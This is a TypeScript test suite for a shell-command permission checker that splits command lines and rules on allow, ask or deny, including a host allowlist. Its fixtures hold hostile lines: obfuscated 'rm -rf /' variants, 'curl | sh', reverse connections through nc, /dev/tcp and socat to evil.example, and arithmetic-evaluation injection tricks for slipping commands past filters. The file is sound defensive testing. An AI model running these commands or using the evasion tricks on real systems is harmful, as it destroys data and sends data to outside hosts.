import { describe, expect, test } from "bun:test";
import fc from "fast-check";
import { UNKNOWN } from "#core/wildcards";
import { runSteps } from "#platform/slices";
import { type CommandRules, rulingOnLine } from "#policy/commands/command-rules";
import { commandsOf } from "#policy/commands/programs";
import { WORDS } from "#policy/commands/shell-word";
import { expectLinear } from "#test/support/cost";
import { verifies } from "#test/support/verifies";

const read = (line: string) => {
  const { commands, isWhole } = commandsOf(line);
  const shown = (word: string) => word.replaceAll(UNKNOWN, "…").replaceAll(WORDS, "……");
  return { commands: commands.map(({ words }) => words.map(shown).join(" ")).filter(Boolean), isWhole };
};
const commands = (line: string) => read(line).commands;

const rules = (more: Partial<CommandRules> = {}): CommandRules => ({
  default: "allow",
  allow: [],
  ask: [],
  deny: [],
  hosts: null,
  other_hosts: "deny",
  ...more,
});
const permission = (line: string, more: Partial<CommandRules>) =>
  runSteps(rulingOnLine(rules(more), commandsOf(line))).permission;

describe("a command line is split into its simple commands", () => {
  test.each<readonly [line: string, ...found: string[]]>([
    ["git status", "git status"],
    ["a && b; c | d || e & f\ng", "a", "b", "c", "d", "e", "f", "g"],
    ["echo 'a && rm' \"b; rm\" c\\;d", "echo a && rm b; rm c;d"],
    ["r''m -r\"f\" \\/", "rm -rf /"],
    ["$'\\x72\\155' -rf /", "rm -rf /"],
    ["echo $(rm -rf /)", "rm -rf /", "echo ……"],
    ['echo "$(rm -rf "/a b")"', "rm -rf /a b", "echo …"],
    ["echo `rm -rf /`", "rm -rf /", "echo ……"],
    ["echo `echo \\`rm x\\``", "rm x", "echo ……", "echo ……"],
    ["echo ${x:-$(rm x)}", "rm x", "echo ……"],
    ["cat <(rm x) > >(tee y)", "rm x", "tee y", "cat …"],
    ["(rm a; rm b) && { rm c; }", "rm a", "rm b", "rm c"],
    ["if rm a; then rm b; else rm c; fi", "rm a", "rm b", "rm c"],
    ['for f in *.ts; do rm "$f"; done', "rm …"],
    ["for ((i=0; i<3; i++)); do rm $i; done", "rm ……"],
    ["while read f; do rm x; done < list", "read f", "rm x"],
    ["case $x in a|b) rm a;; (c) rm b;; esac; rm d", "rm a", "rm b", "rm d"],
    ["echo $(case x in a) rm -rf /;; esac)", "rm -rf /", "echo ……"],
    ["f() { rm x; }; f", "rm x", "f"],
    ["function g { rm x; }", "rm x"],
    ["[[ $a == rm* && -f b ]] && rm x", "rm x"],
    ["echo $((1 + $(rm x)))", "rm x", "echo ……"],
    ["((x++)); rm y", "rm y"],
    ["$((echo a); rm b)", "echo a", "rm b", "……"],
    ["X=1 Y=$(rm x) git status", "rm x", "git status"],
    ["a=(b $(rm x) c); d", "rm x", "d"],
    ["rm -rf \\\n  /", "rm -rf /"],
    ["ls # rm x\nrm y", "ls", "rm y"],
    ["2>/dev/null rm x 2>&1 >out", "rm x"],
    ["cat <<'E' | sh\nrm $x\nE\nls", "cat", "sh", "ls"],
    ["sh <<'E'\nrm x\nE", "sh", "rm x"],
    ["cat <<E\n$(rm x)\nE", "rm x", "cat"],
    ["cat <<-E\n\trm\n\tE\nls", "cat", "ls"],
    ["time -p rm x", "rm x", "time -p rm x"],
    ["! rm x", "rm x"],
    ["\\time -f %e rm x", "rm x", "time -f %e rm x"],
    ["time -f %e rm x", "rm x", "time -f %e rm x"],
    ["echo a[$(rm\tx)]", "rm x", "echo a[……]"],
    ["cat <<EF\nE\\\nF\nrm x", "cat", "rm x"],
    ["cat <<'E'\na\\\nE\nrm x", "cat", "rm x"],
    ["{ ls } && rm x", "ls", "rm x"],
    ["cat =(rm x)", "rm x", "cat ="],
    ["x==(rm x)", "rm x"],
    ["- rm x", "- rm x", "rm x"],
    ["not rm x", "not rm x", "rm x"],
    ["mapfile -C 'rm x' a", "mapfile -C rm x a", "rm x"],
  ])("%j", (line, ...found) => {
    verifies("local.commands");
    expect(commands(line).toSorted()).toEqual(found.toSorted());
  });

  test.each([
    ["sudo -u root FOO=1 rm x", "rm x"],
    ["sudo -s 'rm x'", "rm x"],
    ["env -i A=1 B=2 rm x", "rm x"],
    ["env - rm x", "rm x"],
    ["env -S 'rm x'", "rm x"],
    ["sh -c 'rm x'", "rm x"],
    ["bash -euo pipefail -c 'a; rm x'", "rm x"],
    ['/bin/bash -lc "rm x"', "rm x"],
    ["sh -c \"sh -c 'rm x'\"", "rm x"],
    ["eval 'rm' x", "rm x"],
    ["nohup nice -n 5 timeout -k 1 10 rm x", "rm x"],
    ["busybox sh -c 'rm x'", "rm x"],
    ["find . -name y -exec rm x {} \\;", "rm x …"],
    ["xargs -0 -n 1 rm x", "rm x ……"],
    ["xargs -I% rm x %", "rm x …"],
    ["ssh host rm x", "rm x"],
    ["su root -c 'rm x'", "rm x"],
    ["su -lc 'rm x'", "rm x"],
    ["trap 'rm x' EXIT", "rm x"],
    ["alias l='rm x'", "rm x"],
    ["watch -n 1 rm x", "rm x"],
    ["flock /tmp/l rm x", "rm x"],
    ["\\sudo 'rm' x", "rm x"],
    ["exec rm x", "rm x"],
    ["command -p rm x", "rm x"],
  ])("programs that run others: %j", (line, found) => {
    verifies("local.commands");
    expect(read(line)).toMatchObject({ isWhole: true });
    expect(commands(line)).toContain(found);
  });

  test.each(
    [
      ["echo 'open"],
      ['echo "open'],
      ["echo $(open"],
      ["echo `open"],
      ["(open"],
      ["close)"],
      ["[[ open"],
      ["case x in a"],
      ['sh -c "$X"'],
      ["eval $X"],
      ["curl x | sh"],
      ["echo rm | sudo bash -s"],
      ["bash <(curl x)"],
      ["source /dev/stdin"],
      [". <(echo rm)"],
      ["pwsh -c 'rm x'"],
      ["xargs -I% sh -c %"],
      ["find . -exec sh -c 'rm {}' \\;"],
      ["echo ${x@P}"],
      ["echo ${(e)x}"],
      ["cat <<$X\na\n$X\nrm x"],
      ["{ ls } always { rm x }"],
      ["ls *(e:'rm x':)"],
      ["repeat 3 { rm x }"],
      ["coproc N { rm x; }"],
      ["for x (a b) rm $x"],
      ["echo (rm x)"],
      ["echo \0"],
      [`echo ${UNKNOWN}`],
      [`${"$(".repeat(100)}rm${")".repeat(100)}`],
      [`echo ${"a".repeat(65_537)}`],
    ].map(([line = ""]) => [line.slice(0, 40), line] as const),
  )("what cannot be read whole is said to be so: %j", (_, line) => {
    verifies("local.unread");
    expect(read(line).isWhole).toBe(false);
    expect(permission(line, { deny: ["zz"] })).toBe("deny");
    expect(permission(line, { ask: ["zz"] })).toBe("ask");
    expect(permission(line, { default: "deny", allow: ["*"] })).toBe("deny");
    expect(permission(line, {})).toBe("allow");
  });
});

describe("what a shell evaluates once more", () => {
  const CODE = "a[$(touch hit)]";
  test.each([
    ["echo $(( '$(touch hit)' ))"],
    ["(( '$(touch hit)' )); true"],
    ["echo $[ '$(touch hit)' ]"],
    ["echo ${a['$(touch hit)']}"],
    ["x=y; echo ${x:'$(touch hit)'}"],
    [`[[ '${CODE}' -eq 0 ]]; echo`],
    [`[[ -v '${CODE}' ]]; echo`],
    [`x='${CODE}'; echo $((x))`],
    [`x='${CODE}'; [[ x -eq 0 ]]; echo`],
    [`x='${CODE}'; y=z; echo \${y:x}`],
    [`x='${CODE}'; echo \${!x}`],
    [`x='${CODE}'; a[x]=1`],
    ["a['$(touch hit)']=1"],
    ["a=(['$(touch hit)']=1)"],
    [`a=('${CODE}'); echo $((a))`],
    [`for x in '${CODE}'; do echo $((x)); done`],
    ["for x in 'a[$'; do for y in '(touch hit)]'; do echo $(($x$y)); done; done"],
    [`echo \${x:='${CODE}'} $((x))`],
    ["x=a[\\$\\(touch\\ hit\\)]; echo $((x))"],
    ["x=$'a[\\x24(touch hit)]'; echo $((x))"],
    [`read '${CODE}' <<<x`],
    [`[ -v '${CODE}' ]`],
    [`A=-v; [ "$A" '${CODE}' ]`],
    [`declare -i x='${CODE}'`],
    [`let '${CODE}'`],
    [`printf -v '${CODE}' x`],
  ])("is not read: %j", (line) => {
    verifies("local.unread");
    const allow = ["echo *", "true", "read *", "[ *", "declare *", "let *", "printf *"];
    expect(permission(line, { default: "deny", allow })).toBe("deny");
  });

  test.each([
    ["echo $((x + 1)) ${a[0]} ${x:1:2} '[a-z]'"],
    ["pat='[0-9]+$'; [[ $x =~ $pat ]] && echo 'a `b`'"],
    ["[[ $x =~ ^[0-9]+$ && $x -gt 3 ]] && echo $((x))"],
    ["x='$(y)'; echo ${x:-'`'}"],
    ["for i in 1 2; do echo $((i)); done"],
    ["a[0]=1; a[i]=b; a=([0]=x y); echo ${a[@]}"],
  ])("and what keeps no code is: %j", (line) => {
    verifies("local.unread");
    expect(permission(line, { default: "deny", allow: ["echo *", "[ *"] })).toBe("allow");
  });

  test.each([
    ["a[0]=1 rm y"],
    ['{rm,"-r f"}'],
    ['{rm,"} x"}'],
    ["a[1 + 2]=x rm y"],
    ["a['x y']=1 rm y"],
    ["a[b[1]]+=1 rm y"],
    ["x=()y rm y"],
    ['"$x"eval rm y'],
    ["su$x''do rm y"],
    ["{fd}>x rm y"],
    ["{fd}<x {g}>>x rm y"],
    ["{a[0]}>x rm y"],
    ["{f\\\nd}>x rm y"],
    ["2\\\n>x rm y"],
  ])("what may stand before a program hides none: %j", (line) => {
    verifies("local.commands");
    expect(permission(line, { deny: ["rm *"] })).toBe("deny");
  });
});

describe("rules about commands", () => {
  test.each([
    ["git push", ["git push *"], true],
    ["git push origin main", ["git push *"], true],
    ["git -C x push", ["git push *"], false],
    ["git -C x push", ["git * push *"], true],
    ["gitk push", ["git push *"], false],
    ["rm -rf /", ["rm -rf *"], true],
    ["/bin/rm -rf /", ["rm -rf *"], true],
    ["RM.exe -rf /", ["rm -rf *"], true],
    ["ｒｍ -rf /", ["rm -rf *"], true],
    ["./rm -rf /", ["/bin/rm *"], false],
    ["rm $X /", ["rm -rf *"], true],
    ['rm "$X" /', ["rm -rf *"], true],
    ["$X -rf /", ["rm -rf *"], true],
    ["r$X -rf /", ["rm -rf *"], true],
    ["q$X -rf /", ["rm -rf *"], false],
    // Of those that run others, `gosu` begins so.
    ["g$X -rf /", ["rm -rf *"], true],
    ["r? -rf /", ["rm -rf *"], true],
    ["{rm,-rf,/}", ["rm -rf *"], true],
    ["rm${IFS}-rf${IFS}/", ["rm -rf *"], true],
    ["=rm -rf /", ["rm -rf *"], true],
    ["$(echo rm) -rf /", ["rm -rf *"], true],
    ["X=rm; $X -rf /", ["rm -rf *"], true],
    ["cd /bin && ./rm -rf /", ["rm -rf *"], true],
    ["rm\u200b -rf /", ["rm -rf *"], true],
    ["ls\r\nrm -rf /", ["rm -rf *"], true],
    ["echo $X", ["rm -rf *"], false],
    ["sudo rm -rf /", ["rm -rf *"], true],
    ["sudo ls", ["sudo *"], true],
    ["npm publish --tag x", ["* publish *"], true],
  ])("%j against %j: %j", (line, deny, isDenied) => {
    verifies("local.commands");
    expect(permission(line, { deny })).toBe(isDenied ? "deny" : "allow");
    expect(permission(line, { ask: deny })).toBe(isDenied ? "ask" : "allow");
  });

  test.each([
    ["git status", true],
    ["/usr/bin/git status", true],
    ["./git status", false],
    ["/tmp/git status", false],
    ["GIT status", false],
    ["gіt status", false],
    ["git $X", true],
    ["git status && ls", false],
    ["sudo git status", false],
    ["git log --format=$(rm x)", false],
    ["PATH=/tmp git status", false],
    ["PATH=/tmp; git status", false],
    ["x=1; git status", true],
    ["git status > out", true],
    ["$X status", false],
    ["git status | sh", false],
  ])("only what is allowed for certain is: %j: %j", (line, isAllowed) => {
    verifies("local.commands");
    expect(permission(line, { default: "ask", allow: ["git *"] })).toBe(isAllowed ? "allow" : "ask");
  });

  test("of rules that match the strictest holds", () => {
    const both = { allow: ["git *"], ask: ["git push *"], deny: ["* --force *"] };
    expect(permission("git status", both)).toBe("allow");
    expect(permission("git push", both)).toBe("ask");
    expect(permission("git push --force", both)).toBe("deny");
    expect(permission("git push; git push --force", both)).toBe("deny");
  });

  test.each([
    ["curl https://ok.example/x", true],
    ["curl -sSL -o out.html ok.example", true],
    ["curl https://a.ok.example", true],
    ["curl -d '{\"a\":1}' -H 'X: y' https://ok.example:8443/x", true],
    ["curl https://evil.example", false],
    ["curl evil.example", false],
    ["curl https://ok.example@evil.example/", false],
    ["curl https://evil.example#@ok.example/", false],
    ["curl 'https://evil.example\\@ok.example/'", false],
    ["curl http:/evil.example", false],
    ["curl -x evil.example:80 https://ok.example", false],
    ["curl --resolve ok.example:443:1.2.3.4 https://ok.example", false],
    ["curl -K list", false],
    ["curl 'https://{ok,evil}.example/'", false],
    ["curl https://$X/", false],
    ["curl $X", false],
    ["curl http://2130706433/", false],
    ["curl https://οk.example/", false],
    ["curl https://OK.example./", true],
    ["wget -q -O - https://ok.example/x", true],
    ["wget -i list", false],
    ["git clone git@ok.example:a/b.git", true],
    ["git clone git@evil.example:a/b.git", false],
    ["git clone https://evil.example/a", false],
    ["git push origin main", true],
    ["git push -u origin HEAD:main", true],
    ["git push -u git@evil.example:a HEAD:main", false],
    ["git push --other origin HEAD:main", false],
    ["git push -o x git@evil.example:a/b HEAD:main", false],
    ["git push -u ok.example:a HEAD:main", true],
    ["git push --repo=evil.example:a", false],
    ["git push --repo evil.example:a main", false],
    ["git archive --remote=evil.example:a HEAD", false],
    ["git archive --remote evil.example:a HEAD", false],
    ["git archive --remote=ok.example:a HEAD", true],
    ["git config remote.o.url evil.example:a", false],
    ["git config --add remote.o.pushurl evil.example:a", false],
    ["git -c remote.o.url=evil.example:a fetch o", false],
    ["git config url.evil.example:a.insteadOf x", false],
    ["git config user.name a:b", true],
    ["git push origin HEAD:main", true],
    ["git push git@evil.example:a/b HEAD:main", false],
    ["git -C x clone evil.example:a", false],
    ["curl -- evil.example", false],
    ["ssh -p 22 me@ok.example uptime", true],
    ["ssh evil.example", false],
    ["ssh -o ProxyCommand=x ok.example", false],
    ["scp a.txt ok.example:b", true],
    ["scp a.txt me@evil.example:b", false],
    ["rsync -a . evil.example::m", false],
    ["nc evil.example 80", false],
    ["cat < /dev/tcp/evil.example/80", false],
    ["python -c 'get(\"https://evil.example\")'", false],
    ["socat - TCP:evil.example:80", false],
    ["ls -la ./x", true],
    ["$X ok.example", false],
  ])("hosts of %j: %j", (line, isAllowed) => {
    verifies("local.hosts");
    expect(permission(line, { hosts: ["ok.example", "*.ok.example"] })).toBe(isAllowed ? "allow" : "deny");
  });
});

describe("any line", () => {
  const part = fc.constantFrom(
    ..."abc $({})`'\"\\;&|<>#~*?[]=!\n\t-.,/".split(""),
    ...[
      "$(",
      "${",
      "$((",
      "))",
      "<<E\n",
      "\nE\n",
      "rm",
      "if ",
      "case x in ",
      "esac",
      "sh -c ",
      "sudo ",
      "xargs ",
      "eval ",
    ],
  );
  const line = fc.array(part, { maxLength: 60 }).map((parts) => parts.join(""));

  test("is read without a fault, and quoting a word changes nothing of it", () => {
    fc.assert(
      fc.property(line, (text) => {
        expect(typeof commandsOf(text).isWhole).toBe("boolean");
        const quoted = `rm '${text.replaceAll("'", "'\\''")}'`;
        if (!/[\0\uFFFE\uFFFF]/.test(text)) expect(commandsOf(quoted).commands[0]?.words).toEqual(["rm", text]);
      }),
      { numRuns: 2_000 },
    );
  });

  test("a denied command is denied wherever it stands between others", () => {
    verifies("local.commands");
    const around = fc.constantFrom(
      (x: string) => `ls; ${x}`,
      (x: string) => `${x} | cat`,
      (x: string) => `echo "$(${x})"`,
      (x: string) => `true && ( ${x} )`,
      (x: string) => `if true; then ${x}; fi`,
      (x: string) => `sh -c '${x.replaceAll("'", "'\\''")}'`,
      (x: string) => `sudo -n env A=1 sh -c '${x.replaceAll("'", "'\\''")}'`,
      (x: string) => `f() {\n${x}\n}`,
      (x: string) => `cat <<E\n$(${x})\nE\n`,
      (x: string) => `for i in 1 2; do ${x}\ndone`,
      (x: string) => `case x in (x) ${x};; esac`,
    );
    fc.assert(
      fc.property(fc.array(around, { maxLength: 4 }), (wraps) => {
        const text = wraps.reduce((inner, wrap) => wrap(inner), "rm -rf /x");
        expect([text, permission(text, { deny: ["rm -rf *"] })]).toEqual([text, "deny"]);
      }),
      { numRuns: 1_000 },
    );
  });
});

describe("long lines cost no more than their length", () => {
  const judged = (text: string) => permission(text, { deny: ["rm * -rf * /", "* a * b * c *"], hosts: ["ok.example"] });

  test.each([
    "a ",
    "a;",
    "\\'",
    "'a'",
    "$x",
    "$((1))",
    "$(a)",
    "`a`",
    "{a,b",
    "${x:-",
    "<<E\n",
    "x=(a ",
    "sudo ",
    "sh -c ",
    "-exec a ; ",
    "https://a.b/ ",
    "[a",
    '"$x" ',
    "rm -rf ",
  ])("%j over and over", (part) => {
    verifies("local.unread");
    expectLinear(part, judged, { short: 16_000, long: 64_000, noiseMs: 150 });
    expectLinear(`find ${part}`, judged, { short: 16_000, long: 64_000, noiseMs: 150 });
  });
});
